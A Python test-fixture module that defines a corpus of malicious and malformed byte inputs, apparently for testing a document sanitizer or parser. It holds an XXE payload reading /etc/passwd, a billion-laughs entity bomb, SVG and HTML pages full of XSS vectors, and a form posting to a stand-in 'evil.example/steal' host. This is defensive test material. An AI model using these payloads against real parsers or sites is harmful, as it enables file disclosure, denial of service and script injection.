"""Bytes that mean harm, or that are not what they say. Written for these tests."""

from __future__ import annotations

PNG = b"\x89PNG\r\n\x1a\n" + bytes.fromhex(
    "0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63fccff0bf1e0006030201f5c2c1a30000000049454e44ae426082"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
RTF = b'{\\rtf1\\ansi{\\field{\\*\\fldinst{HYPERLINK "https://evil.example/"}}} Seen today.}'
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'

C_CDA = (
    b'<?xml version="1.0"?>\n<?xml-stylesheet href="CDA.xsl"?>\n<!-- one -->\n'
    b'<ClinicalDocument xmlns="urn:hl7-org:v3"/>'
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&x;</title></ClinicalDocument>'
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b"]><lolz>&m;</lolz>"
)

HOSTILE_PAGE = b"""<!DOCTYPE html><html><head><title>t</title><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<style>body { background: url(https://evil.example/b.png) }</style><script>window.harmed = 1</script></head>
<body onload="window.harmed = 2" class="whose" id="main">
<h1 style="position:fixed" onclick="window.harmed = 3">Progress note</h1>
<p>Kept words. <a href="javascript:window.harmed=4">link words</a>
<a href="https://evil.example/">more link words</a></p>
<img src="x" onerror="window.harmed = 5" alt="A chart of mood"><img src="https://evil.example/pixel.png">
<svg onload="window.harmed=6"><script>window.harmed=7</script><a xlink:href="javascript:window.harmed=8">s</a></svg>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.harmed=10</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<form action="https://evil.example/steal"><input type="checkbox" checked>Slept well<input type="checkbox">Ate well
<input type="text" value="typed words" autofocus onfocus="window.harmed=11">
<button formaction="javascript:1">Send</button></form>
<template><script>window.harmed=12</script></template>
<noscript><p title="</noscript><img src=x onerror=window.harmed=13>"></noscript>
<details open ontoggle="window.harmed=14"><summary>More</summary>Folded words</details>
<video src="https://evil.example/v" onerror="window.harmed=15"></video>
<p>Last words.</p>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=window.harmed=9&gt;"></math></body></html>"""


def pdf(words: str = "Safety plan", action: bytes = b"") -> bytes:
    """A PDF of one page."""
    stream = b"BT /F1 24 Tf 20 150 Td (" + words.encode() + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + action + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources "
        b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start


CORPUS: tuple[bytes, ...] = (
    PNG,
    JPEG,
    GIF,
    WEBP,
    RTF,
    SVG,
    C_CDA,
    XXE,
    BILLION_LAUGHS,
    HOSTILE_PAGE,
    pdf(),
    b"",
    b"\x00",
    b"<",
    b"%",
    b"\xff\xfe",
    b"<!--" * 5000,
    b"<?" * 5000,
    b"<!DOCTYPE [" * 500,
    b"<div>" * 19_000,
    b"GIF89a<script>alert(1)</script>%PDF-1.4 startxref",
    b"PK\x03\x04" + b"word/document.xml",
    bytes(128) + b"DICM" + bytes(64),
)
